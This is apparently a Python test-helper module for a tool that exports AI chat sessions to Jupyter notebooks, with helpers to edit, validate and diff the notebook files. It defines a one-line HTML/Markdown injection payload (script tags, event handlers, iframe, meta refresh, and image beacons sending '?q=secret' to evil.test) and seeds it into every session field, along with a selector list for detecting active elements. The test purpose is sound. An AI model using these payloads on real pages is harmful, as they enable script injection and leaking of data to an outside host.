"""Does with a notebook what its user does: reads it, edits cells, puts some in and takes some out."""

import json
import subprocess
import warnings
from decimal import Decimal

import nbformat
from hypothesis import strategies as st
from pictures import drawn, encoded

from cyclops_nb.messages import (
    AssistantMessage,
    FilePart,
    ImagePart,
    ReasoningPart,
    TextPart,
    ToolCall,
    ToolMessage,
    UserMessage,
)
from cyclops_nb.runs import Run, RunError
from cyclops_nb.session import Session
from cyclops_nb.usage import Usage

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

PIECES = st.sampled_from([
    "a", "b c", " ", "\t", "    ", "\n", "\n\n", "\r\n", "\r", "`", "```", "````", "~~~", "```py\n", "$", "$$", "$x^2$",
    "\\(", "\\)", "<details>", "</details>", "<b>", "<!--", "- ", "1. ", "> ", "# ", "|", "---", "\\", "&lt;", "![a](b)",
    "[a](b)", "[a]: b", "\u2028", "\u2029", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\x00", "\x1b", "\ufeff", "\u202e", "é", "😀", "<pre>",
    "</pre>", "*", "_",
])  # fmt: skip
MARKDOWN = st.lists(PIECES, max_size=12).map("".join)
"""Any text of what means something in Markdown, in HTML or to a program that splits lines."""


def conversation():
    """Return a session with a picture, reasoning, two calls and their results, and an answer."""
    session = Session("study-1", title="Weather")
    config = {"model": "m", "system_prompt": "Be brief.", "temperature": 0.5}
    run = Run(session_id="study-1", model="m", config="c1", usage=Usage(2, 100, 20), cost=0.01, stop_reason="completed")
    session.configs["c1"] = config
    session.runs.append(run)
    session.messages += [
        UserMessage([TextPart("How warm is it here?\nAnd there?"), ImagePart(PNG, media_type="image/png")]),
        AssistantMessage(
            [
                ReasoningPart("I need the weather."),
                TextPart("I look."),
                ToolCall("call_1", "get_weather", '{"city": "Paris"}'),
                ToolCall("call_2", "get_weather", '{"city": "Rome"}'),
            ],
            model="m",
            duration=1.5,
            usage=Usage(1, 50, 10),
        ),
        ToolMessage("call_1", "get_weather", "11 °C"),
        ToolMessage("call_2", "get_weather", "19 °C"),
        AssistantMessage("It is 11 °C in Paris.\n\nIt costs $5 to $6, and\n19 °C in Rome."),
        UserMessage("Thanks."),
        AssistantMessage("You are welcome."),
    ]
    return session


def read(path):
    return json.loads(path.read_bytes())


def write(path, notebook):
    """Write a notebook as JupyterLab does."""
    nbformat.write(nbformat.from_dict(notebook), path)


def source(cell):
    return "".join(cell["source"])


def kinds(path):
    """Return what the cells are: the kinds of ours, the texts of the user's."""
    found = []
    for cell in read(path)["cells"]:
        data = cell["metadata"].get("cyclops_nb")
        found.append(source(cell) if data is None else data.get("index", data["kind"]))
    return found


def cell_of(notebook, index):
    """Return the cell of the message with an index, or of the head or foot."""
    for cell in notebook["cells"]:
        data = cell["metadata"].get("cyclops_nb", {})
        if data.get("index", data.get("kind")) == index:
            return cell
    raise LookupError(index)


def edit(path, index, old, new):
    """Replace a text in the cell of a message."""
    notebook = read(path)
    cell = cell_of(notebook, index)
    assert old in source(cell)
    cell["source"] = source(cell).replace(old, new)
    write(path, notebook)


def take_out(path, *indices):
    notebook = read(path)
    for index in indices:
        notebook["cells"].remove(cell_of(notebook, index))
    write(path, notebook)


def put_in(path, after, *cells):
    """Put cells behind that of a message."""
    notebook = read(path)
    place = notebook["cells"].index(cell_of(notebook, after)) + 1
    notebook["cells"][place:place] = cells
    write(path, notebook)


def note(text):
    return nbformat.v4.new_markdown_cell(text)


def code(text, *outputs):
    return nbformat.v4.new_code_cell(text, outputs=list(outputs), execution_count=3)


def check_valid(path):
    """Fail unless the file is a valid notebook, laid out as nbformat writes it."""
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        notebook = nbformat.read(path, as_version=nbformat.NO_CONVERT)
        nbformat.validate(notebook)
    ids = [cell["id"] for cell in notebook.cells]
    assert len(set(ids)) == len(ids)
    assert "widgets" not in notebook.metadata
    assert f"{nbformat.writes(notebook)}\n".encode() == path.read_bytes()


def as_jupyterlab_saves(notebook):
    """Return a notebook as a browser sends it and the server behind it writes it."""
    return (json.dumps(in_browser(notebook), indent=1, ensure_ascii=False, sort_keys=True) + "\n").encode()


def in_browser(value):
    """Return JSON data as they come back from JavaScript, which has floating-point numbers alone."""
    if isinstance(value, dict):
        return {key: in_browser(item) for key, item in value.items() if key != "__proto__"}
    if isinstance(value, list):
        return [in_browser(item) for item in value]
    if not isinstance(value, int | float) or isinstance(value, bool):
        return value
    number = float(value)
    return int(Decimal(repr(number))) if number.is_integer() and abs(number) < 1e21 else number


def git(folder, *arguments):
    """Return what git prints."""
    return subprocess.run(["git", *arguments], cwd=folder, check=True, capture_output=True, text=True).stdout


def changed_lines(before, after, folder):
    """Return how many lines git says were added and removed, and the lines that were removed."""
    (folder / "a").write_bytes(before)
    (folder / "b").write_bytes(after)
    command = ["git", "diff", "--no-index", "--unified=0", "a", "b"]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
    lines = [line for line in done.stdout.splitlines() if not line.startswith(("---", "+++"))]
    return [line[1:] for line in lines if line.startswith("+")], [line[1:] for line in lines if line.startswith("-")]


_RUNS = "window.owned = true"
HOSTILE = (
    f"<script>{_RUNS}</script><img src=x onerror='{_RUNS}'><svg onload='{_RUNS}'></svg>"
    f"<iframe srcdoc='<script>parent.owned = true</script>'></iframe><details open ontoggle='{_RUNS}'></details>"
    "<style>.jp-Notebook { display: none }</style><link rel=stylesheet href=http://evil.test/a.css>"
    "<meta http-equiv=refresh content='0;url=http://evil.test/b'><base href=http://evil.test/>"
    "<img src=http://evil.test/c?q=secret> ![d](http://evil.test/d?q=secret) [e](javascript:alert(1)) "
    "</details></pre></code></script></style><!-- &lt; `` ` ``` ~~~ $ $$ \\( \\[ | * _ # \u202e"
)
"""What does something in a page that obeys it, in one line."""
ACTIVE = ", ".join(
    f".jp-MarkdownOutput {active}"
    for active in ("script", "iframe", "style", "link", "meta", "base", "form", "img[src^=http]", "[onerror]", "[onload]",
                   "[ontoggle]", "a[href^=javascript]")
)  # fmt: skip
"""Finds elements in Markdown cells, as JupyterLab and nbconvert show them, that do something."""


def hostile_conversation():
    """Return a session that reads as any other, beside hostile text wherever a model, a tool or a provider can write."""
    session = Session("study-1", title=f"The weather, for $5 {HOSTILE}")
    run = Run(
        session_id="study-1",
        model=f"gpt-5-mini {HOSTILE}",
        config="c1",
        usage=Usage(2, 1_100, 220),
        cost=0.0123,
        duration=4.2,
        steps=2,
        stop_reason="completed",
        warnings=[f"the prompt seems to have been cut {HOSTILE}"],
    )
    failed = Run(
        session_id="study-1",
        model="gpt-5-mini",
        usage_complete=False,
        cost=1.23e-05,
        duration=2.0,
        stop_reason="error",
        error=RunError(type=f"E{HOSTILE}", message=HOSTILE),
    )
    session.configs["c1"] = {
        "model": f"gpt-5-mini {HOSTILE}",
        "host": HOSTILE,
        "system_prompt": f"Be brief.\n```\n{HOSTILE}\n~~~",
        "temperature": 1.0,
        "tools": [{"name": HOSTILE}, {"name": "get_weather"}],
        "stop": [HOSTILE],
    }
    session.runs += [run, failed]
    session.messages += [
        UserMessage(
            [
                TextPart(f"How warm is it in Paris, and what does a coat cost?\n\n{HOSTILE}"),
                ImagePart(encoded(drawn("PNG", (160, 90))), media_type="image/png"),
                ImagePart(url="http://evil.test/f.png?q=secret"),
                FilePart(f"notes {HOSTILE}.txt", b"x" * 2_000, f"text/plain{HOSTILE}"),
            ]
        ),
        AssistantMessage(
            [
                ReasoningPart(f"I need the weather.\n\n</details>\n\n```html\n</details>{HOSTILE}\n```\n\n{HOSTILE}"),
                TextPart("I look."),
                ToolCall("call_1", "get_weather", '{"city": "Paris"}'),
                ToolCall(f"c{HOSTILE}", f"f{HOSTILE}", f"```\n{HOSTILE}"),
            ],
            model=f"gpt-5-mini {HOSTILE}",
            duration=1.5,
            usage=Usage(1, 500, 100),
            cost=0.005,
            finish_reason=HOSTILE,
        ),
        ToolMessage("call_1", "get_weather", '{"temperature": 11, "sky": "clear"}'),
        ToolMessage(f"c{HOSTILE}", f"f{HOSTILE}", f"```\n</details>\n{HOSTILE}", status="error"),
        AssistantMessage(
            "It is **11 °C** in Paris. A coat costs $50 to $80, a scarf $5.\n\n"
            "Energy is $E=mc^2$, and\n\n$$\\int_0^1 x^2\\,dx = \\tfrac13$$\n\n"
            "```python\nprice = {'coat': '$50', 'scarf': '$5'}\nif a < b and b > c:\n    print('<b>', f\"`{price}`\")\n```\n\n"
            f"| what | price |\n|---|---|\n| coat | $50 |\n| scarf | $5 |\n\n- one\n- two\n\n{HOSTILE}\n\nBring a coat.",
            model="gpt-5-mini",
            duration=2.7,
            usage=Usage(1, 600, 120),
            cost=0.0073,
        ),
    ]
    return session
